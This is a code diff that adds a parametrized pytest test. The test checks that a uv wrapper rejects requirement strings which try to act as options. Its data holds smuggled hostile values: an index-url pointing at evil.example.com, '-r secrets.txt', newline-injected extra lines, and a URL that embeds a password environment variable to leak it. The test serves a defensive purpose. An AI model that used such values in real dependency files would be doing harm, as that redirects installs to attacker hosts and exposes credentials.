@@ -167,3 +167,21 @@ def test_settings_of_this_machine_do_not_count(uv: Uv, tmp_path: Path, monkeypat
     monkeypatch.setenv("UV_CONFIG_FILE", str(tmp_path / "uv.toml"))
     monkeypatch.chdir(tmp_path)
     assert versions(uv, msgspec.structs.replace(WANTED, folder=tmp_path)) == {"demo": "2.0"}
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "--index-url=https://evil.example.com/simple",
+        "-r secrets.txt",
+        "demo\n--index-url=https://evil.example.com/simple",
+        "demo @ https://evil.example.com/demo-1.0-py3-none-any.whl\n-r secrets.txt",
+        "demo @ https://evil.example.com/${UV_INDEX_OWN_PASSWORD}/demo-1.0-py3-none-any.whl",
+        "demo @ https://evil.example.com/demo-1.0-py3-none-any.whl\\",
+    ],
+)
+@pytest.mark.parametrize("field", ["requirements", "constraints", "overrides"])
+def test_a_requirement_is_never_an_option(uv: Uv, hostile: str, field: str) -> None:
+    """Names out of other tools' locks or of what is installed cannot tell uv where to look or what to read."""
+    with pytest.raises(UsageError, match="bad-requirement"):
+        uv.resolve(msgspec.structs.replace(WANTED, **{field: ("demo", hostile)}))
